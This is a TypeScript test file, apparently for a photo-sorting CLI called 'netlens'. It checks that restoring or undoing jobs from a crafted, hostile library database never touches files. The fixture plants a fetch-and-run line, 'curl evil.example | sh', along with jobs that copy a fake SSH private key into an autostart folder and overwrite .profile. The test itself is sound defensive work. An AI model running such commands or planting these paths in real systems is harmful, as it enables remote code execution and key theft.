/** A malicious library that tries to have files copied, moved and written, given to the real program. */
import Database from 'libsql'
import { execFile } from 'node:child_process'
import { createHash } from 'node:crypto'
import { copyFileSync, mkdirSync, readFileSync, rmSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { expect, test } from 'vitest'
import { migrate, migrations } from '../../src-main/library/schema'
import { newFolder, treeOf, writeTree } from '../support/tree'

const cli = join(import.meta.dirname, '../../out/main/cli.js')

async function netlens(data: string, ...args: string[]): Promise<{ status: number; output: string }> {
  const env = { ...process.env, NETLENS_DATA: data }
  return promisify(execFile)(process.execPath, [cli, 'library', ...args], { env }).then(
    ({ stdout }) => ({ status: 0, output: stdout }),
    ({ code, stdout, stderr }: { code: number; stdout: string; stderr: string }) => ({
      status: code,
      output: stdout + stderr
    })
  )
}

test('neither restored nor put in place does it touch a file', async () => {
  const home = newFolder()
  writeTree(home, { '.ssh/id_rsa': 'PRIVATE KEY', '.profile': 'umask 022', 'cat.jpg': 'a cat' })
  const [secret, profile, autostart] = ['.ssh/id_rsa', '.profile', '.config/autostart'].map((path) =>
    join(home, path)
  ) as [string, string, string]
  const digest = (text: string): string => createHash('sha256').update(text).digest('hex')
  const { size, mtimeNs } = statSync(secret, { bigint: true })
  const hostile = join(newFolder(), 'backup.sqlite')
  const database = new Database(hostile)
  migrate(database, migrations)
  const job = database.prepare('INSERT INTO sorting_job VALUES (?, ?, ?, 1, ?, 1, NULL)')
  job.run(1, 'copy', autostart, 'interrupted')
  job.run(2, 'move', join(home, '.ssh'), 'completed')
  const step = database.prepare(
    `INSERT INTO sorting_step (job, number, source, destination, bytes, modified, companion, state, placed_modified)
     VALUES (?, 0, ?, ?, ?, ?, 0, ?, ?)`
  )
  step.run(1, secret, join(autostart, 'evil.desktop'), Number(size), String(mtimeNs), 'planned', null)
  step.run(2, join(home, 'public/key'), secret, Number(size), String(mtimeNs), 'done', String(mtimeNs))
  database.exec(`INSERT INTO tagging_job (id, place, started) VALUES (1, 'file', 1)`)
  const evil = 'curl evil.example | sh'
  const inverse = [{ start: 0, end: 9, bytes: Buffer.from(evil).toString('base64') }]
  database
    .prepare(
      `INSERT INTO tagging_step (job, number, image, file, keywords, inverse, modified, digest_before, digest_after)
       VALUES (1, 0, ?, ?, '[]', ?, 1, ?, ?)`
    )
    .run(profile, profile, JSON.stringify(inverse), digest(evil), digest('umask 022'))
  database.close()
  const before = treeOf(home)

  const [restored, placed] = [newFolder(), join(newFolder(), 'data')]
  expect(await netlens(restored, 'restore', hostile)).toMatchObject({ status: 0 })
  mkdirSync(placed)
  copyFileSync(hostile, join(placed, 'library.sqlite'))
  for (const [data, ...act] of [
    [restored, 'sort', '--continue', '1'],
    [restored, 'tag', '--undo', '1'],
    [placed, 'sort', '--undo', '2']
  ] as const) {
    const { status, output } = await netlens(data, ...act)
    expect(status, output).not.toBe(0)
    expect(output).toMatch(/(Sorting|Tagging) [12] is closed: .*no file was touched/)
    expect(treeOf(home)).toEqual(before)
  }
  const jobs = await netlens(placed, 'sort', '--jobs')
  expect(jobs.output).toMatch(/Sorting 2: move .*closed \(of another.*\n(.*\n)?Sorting 1: copy .*closed/)
  expect(readFileSync(profile, 'utf8')).toBe('umask 022')
  for (const folder of [home, restored, placed]) rmSync(folder, { recursive: true })
})
